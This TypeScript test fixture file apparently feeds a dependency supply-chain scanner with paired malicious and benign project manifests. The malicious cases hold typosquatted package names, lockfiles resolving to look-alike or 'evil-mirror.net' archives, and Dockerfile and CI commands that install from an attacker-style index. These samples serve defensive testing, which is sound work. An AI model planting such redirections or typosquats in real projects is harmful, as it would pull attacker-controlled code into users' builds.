/**
 * Tricks with dependencies, after public reports (dependency confusion 2021, lockfile injection 2019, names of npm and
 * PyPI until 2026), and ordinary files beside them. A third is `held` (`partOf`).
 */
import type { FilesCase, Files } from './cases';

const one = (name: string, files: Files): FilesCase => ({ name, files });
const json = (value: unknown) => JSON.stringify(value, null, 2);
const project = (extra: Record<string, unknown>) =>
  json({ name: 'a', version: '1.0.0', license: 'MIT', ...extra });
const SUM = 'sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==';
/** A lockfile of npm with one package in each place. */
const lock = (packages: Record<string, Record<string, unknown>>, dependencies: Record<string, string>) =>
  json({
    name: 'a',
    version: '1.0.0',
    lockfileVersion: 3,
    packages: { '': { name: 'a', version: '1.0.0', dependencies }, ...packages },
  });
const npm = (name: string, range: string, version: string, resolved: string): Files => ({
  'package.json': project({ dependencies: { [name]: range } }),
  'package-lock.json': lock(
    { [`node_modules/${name}`]: { version, resolved, integrity: SUM } },
    { [name]: range },
  ),
});
const named = (name: string): Files => ({ 'package.json': project({ dependencies: { [name]: '1.0.0' } }) });
const required = (text: string): Files => ({ 'requirements.txt': text });

export const BAD_DEPENDENCIES: readonly FilesCase[] = [
  one('archive of another package', npm('lodash', '^4.17.21', '4.17.21', 'https://registry.npmjs.org/lodahs/-/lodahs-4.17.21.tgz')),
  one('archive of another scope', npm('@babel/core', '^7.0.0', '7.24.0', 'https://registry.npmjs.org/@babe1/core/-/core-7.24.0.tgz')),
  one('archive of another host', npm('express', '^4.0.0', '4.19.2', 'https://registry.npmjs.com.evil-mirror.net/express/-/express-4.19.2.tgz')),
  one('archive without encryption', npm('chalk', '^5.0.0', '5.3.0', 'http://registry.npmjs.org/chalk/-/chalk-5.3.0.tgz')),
  one('archive of a repository for a range', npm('ms', '^2.1.0', '2.1.3', 'https://codeload.github.com/x-user/ms/tar.gz/5a1d2c3')),
  one('archive by git for a range', npm('debug', '^4.3.0', '4.3.4', 'git+ssh://git@github.com/x-user/debug.git#0123456789012345678901234567890123456789')),
  one('archive of yarn by another name', { 'package.json': project({ dependencies: { axios: '^1.6.0' } }), 'yarn.lock': `# yarn lockfile v1\n\naxios@^1.6.0:\n  version "1.6.8"\n  resolved "https://registry.yarnpkg.com/axois/-/axois-1.6.8.tgz#66d294951f5d988a00e87a0ffb955316a619ea66"\n  integrity ${SUM}\n` }),
  one('archive of yarn on another host', { 'package.json': project({ dependencies: { axios: '^1.6.0' } }), 'yarn.lock': `# yarn lockfile v1\n\naxios@^1.6.0:\n  version "1.6.8"\n  resolved "https://cdn.evil-mirror.net/axios-1.6.8.tgz#66d2"\n  integrity ${SUM}\n` }),
  one('archive of pnpm on another host', { 'package.json': project({ dependencies: { axios: '^1.6.0' } }), 'pnpm-lock.yaml': `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      axios:\n        specifier: ^1.6.0\n        version: 1.6.8\npackages:\n  axios@1.6.8:\n    resolution: {integrity: ${SUM}, tarball: https://cdn.evil-mirror.net/axios.tgz}\nsnapshots:\n  axios@1.6.8: {}\n` }),
  one('alias under a popular name', { 'package.json': project({ dependencies: { axios: 'npm:axios-http-safe@1.6.8' } }) }),
  one('alias to another scope', { 'package.json': project({ dependencies: { react: 'npm:@x-team/react@18.2.0' } }) }),
  one('override by another package', { 'package.json': project({ dependencies: { express: '4.19.2' }, overrides: { qs: 'npm:qs-parse-safe@6.11.0' } }) }),
  one('resolution by an address', { 'package.json': project({ dependencies: { express: '4.19.2' }, resolutions: { '**/debug': 'https://files.evil-mirror.net/debug.tgz' } }) }),
  one('override of pnpm by a repository', { 'package.json': project({ dependencies: { express: '4.19.2' }, pnpm: { overrides: { 'send>ms': 'github:x-user/ms' } } }) }),
  one('nested override', { 'package.json': project({ dependencies: { express: '4.19.2' }, overrides: { express: { qs: 'git+https://github.com/x-user/qs.git' } } }) }),
  one('dependency by an address', { 'package.json': project({ dependencies: { lodash: 'https://files.evil-mirror.net/lodash-4.17.21.tgz' } }) }),
  one('requirement by an address', required('flask==3.0.0\nrequests @ https://files.evil-mirror.net/requests-2.31.0-py3-none-any.whl\n')),
  one('requirement by an address alone', required('flask==3.0.0\nhttps://files.evil-mirror.net/fast_json-1.0.tar.gz\n')),
  one('extra index', required('--extra-index-url https://pypi.evil-mirror.net/simple\nacme-utils==1.0\n')),
  one('index in a command of an image', { Dockerfile: 'FROM python:3.12\nRUN pip install --extra-index-url http://pypi.evil-mirror.net/simple acme-utils\n', 'requirements.txt': 'flask==3.0.0\n' }),
  one('index in the environment of an image', { Dockerfile: 'FROM python:3.12\nENV PIP_INDEX_URL=https://pypi.evil-mirror.net/simple\nRUN pip install flask\n' }),
  one('registry in a pipeline', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm config set registry https://npm.evil-mirror.net && npm install\n' }),
  one('source of poetry', { 'pyproject.toml': '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\npython = "^3.11"\nflask = "3.0.0"\n[[tool.poetry.source]]\nname = "extra"\nurl = "https://pypi.evil-mirror.net/simple"\npriority = "primary"\n' }),
  one('index of uv', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["flask==3.0.0"]\n[[tool.uv.index]]\nname = "x"\nurl = "https://pypi.evil-mirror.net/simple"\n' }),
  one('source of pipenv', { Pipfile: '[[source]]\nurl = "http://pypi.evil-mirror.net/simple"\nverify_ssl = false\nname = "x"\n[packages]\nflask = "==3.0.0"\n' }),
  one('registry of bun', { 'bunfig.toml': '[install]\nregistry = "https://npm.evil-mirror.net"\n', ...named('express') }),
  one('scope whose registry is not asked', { '.npmrc': '@acme:registry=https://npm.pkg.github.com\n', ...npm('@acme/auth', '^1.0.0', '9.9.9', 'https://registry.npmjs.org/@acme/auth/-/auth-9.9.9.tgz') }),
  one('letters of another script', named('lоdash')),
  one('scope of one other letter', named('@typescript_eslinter/eslint')),
  one('scope of look-alike letters', named('@babe1/core')),
  one('scope one letter longer', named('@typess/node')),
  one('name of types without a scope', named('types-node')),
  one('digit for a letter', named('ax1os')),
  one('doubled letter', named('expresss')),
  one('missing separator and letter', named('crosenv')),
  one('js behind another letter', named('ethesjs')),
  one('words of npm in another order', named('parser-body')),
  one('exchanged letters of PyPI', required('reqeusts==2.31.0\n')),
  one('digit in PyPI', required('req0ests==2.31.0\n')),
  one('plural in PyPI', required('colorsama==0.4.6\n')),
  one('python before a name', required('python-requests2==1.0\n')),
  one('words of PyPI in another order', required('learn-scikit==1.0\n')),
  one('wheel of another package', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests>=2"]\n', 'uv.lock': 'version = 1\n[[package]]\nname = "requests"\nversion = "2.31.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "https://files.pythonhosted.org/packages/70/8e/reqeusts-2.31.0-py3-none-any.whl", hash = "sha256:aa" }]\n[[package]]\nname = "a"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "requests" }]\n' }),
  one('source of a lock of uv', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests>=2"]\n', 'uv.lock': 'version = 1\n[[package]]\nname = "requests"\nversion = "2.31.0"\nsource = { registry = "https://pypi.evil-mirror.net/simple" }\n[[package]]\nname = "a"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "requests" }]\n' }),
]; // prettier-ignore

export const GOOD_DEPENDENCIES: readonly FilesCase[] = [
  one('archive of the registry', npm('lodash', '^4.17.21', '4.17.21', 'https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz')),
  one('archive of a scope', npm('@babel/core', '^7.0.0', '7.24.0', 'https://registry.npmjs.org/@babel/core/-/core-7.24.0.tgz')),
  one('archive of a mirror', npm('express', '^4.0.0', '4.19.2', 'https://registry.npmmirror.com/express/-/express-4.19.2.tgz')),
  one('archive of the registry of GitHub', npm('@octo/tool', '^1.0.0', '1.2.0', 'https://npm.pkg.github.com/download/@octo/tool/1.2.0/0f1e2d')),
  one('archive of a repository', { 'package.json': project({ dependencies: { ms: 'github:vercel/ms#1304f150b38027e0818cc122106b5c7322d68d0c' } }), 'package-lock.json': lock({ 'node_modules/ms': { version: '2.1.3', resolved: 'git+ssh://git@github.com/vercel/ms.git#1304f150b38027e0818cc122106b5c7322d68d0c' } }, { ms: 'github:vercel/ms#1304f150b38027e0818cc122106b5c7322d68d0c' }) }),
  one('alias for two versions', { 'package.json': project({ dependencies: { 'react-17': 'npm:react@17.0.2', react: '18.2.0' } }) }),
  one('alias in a lockfile', { 'package.json': project({ dependencies: { '@isaacs/cliui': '^8.0.2' } }), 'package-lock.json': lock({ 'node_modules/@isaacs/cliui': { version: '8.0.2', resolved: 'https://registry.npmjs.org/@isaacs/cliui/-/cliui-8.0.2.tgz', integrity: SUM }, 'node_modules/string-width-cjs': { name: 'string-width', version: '4.2.3', resolved: 'https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz', integrity: SUM } }, { '@isaacs/cliui': '^8.0.2' }) }),
  one('alias to a build for the web', { 'package.json': project({ dependencies: { esbuild: 'npm:esbuild-wasm@0.21.0' } }) }),
  one('alias to another build', { 'package.json': project({ dependencies: { rollup: 'npm:@rollup/wasm-node@4.18.0' } }) }),
  one('alias to modules', { 'package.json': project({ dependencies: { lodash: 'npm:lodash-es@4.17.21' } }) }),
  one('override by a version', { 'package.json': project({ dependencies: { express: '4.19.2' }, overrides: { qs: '6.11.0', semver: '$semver' } }) }),
  one('resolution by a version', { 'package.json': project({ dependencies: { express: '4.19.2' }, resolutions: { '**/minimist': '^1.2.8', 'string-width': '4.2.3' } }) }),
  one('resolution by a patch', { 'package.json': project({ dependencies: { express: '4.19.2' }, resolutions: { 'debug@^4': 'patch:debug@npm%3A4.3.4#./patches/debug.patch' } }) }),
  one('override by a folder', { 'package.json': project({ dependencies: { express: '4.19.2' }, pnpm: { overrides: { ms: 'link:./vendor/ms', 'is-number': 'npm:@nolyfill/is-number@1' } } }) }),
  one('dependency by a repository', { 'package.json': project({ dependencies: { tool: 'git+https://github.com/octo/tool.git#0123456789012345678901234567890123456789' } }) }),
  one('requirements', required('--index-url https://pypi.org/simple\nflask==3.0.0\nrequests==2.31.0 --hash=sha256:aa\n')),
  one('requirement by a repository', required('flask==3.0.0\ntool @ git+https://github.com/octo/tool@0123456789012345678901234567890123456789\n')),
  one('index of PyTorch', required('--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.3.0\n')),
  one('requirement by an archive of GitHub', required('tool @ https://github.com/octo/tool/archive/refs/tags/v1.0.zip\n')),
  one('command of an image', { Dockerfile: 'FROM python:3.12\nRUN pip install --no-cache-dir --index-url https://download.pytorch.org/whl/cpu torch\nENV PIP_NO_CACHE_DIR=1\n' }),
  one('registry of npm in a pipeline', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with: {registry-url: "https://registry.npmjs.org"}\n      - run: npm publish --registry https://registry.npmjs.org\n' }),
  one('source of poetry', { 'pyproject.toml': '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\npython = "^3.11"\nflask = "3.0.0"\n[[tool.poetry.source]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\npriority = "explicit"\n[project.urls]\nurl = "https://a.example.com"\n' }),
  one('index of uv', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["flask==3.0.0"]\nurls = { url = "https://a.example.com" }\n[[tool.uv.index]]\nname = "pypi"\nurl = "https://pypi.org/simple"\n' }),
  one('source of pipenv', { Pipfile: '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n[packages]\nflask = "==3.0.0"\n' }),
  one('scope with its registry', { '.npmrc': '@octo:registry=https://npm.pkg.github.com\n', ...npm('@octo/tool', '^1.0.0', '1.2.0', 'https://npm.pkg.github.com/download/@octo/tool/1.2.0/0f1e2d') }),
  ...['preact', 'react-native-svg', '@types/express', '@babel/preset-env', 'colors-cli', 'date-fns-tz', 'fastify-plugin', 'expressive', 'lodash.get', '@acme/core'].map((name) => one(`name ${name}`, named(name))),
  ...['python-dotenv', 'requests-oauthlib', 'flask-cors', 'types-requests', 'pytest-django', 'numpydoc', 'aiohttp-cors', 'pandas-stubs', 'django-environ'].map((name) => one(`name ${name} of PyPI`, required(`${name}==1.0\n`))),
  one('lock of uv', { 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\ndependencies = ["zope-interface>=6"]\n', 'uv.lock': 'version = 1\n[[package]]\nname = "zope-interface"\nversion = "6.4"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/aa/bb/zope.interface-6.4.tar.gz", hash = "sha256:aa" }\nwheels = [{ url = "https://files.pythonhosted.org/packages/cc/dd/zope.interface-6.4-cp312-cp312-win_amd64.whl", hash = "sha256:aa" }]\n[[package]]\nname = "a"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [{ name = "zope-interface" }]\n' }),
]; // prettier-ignore
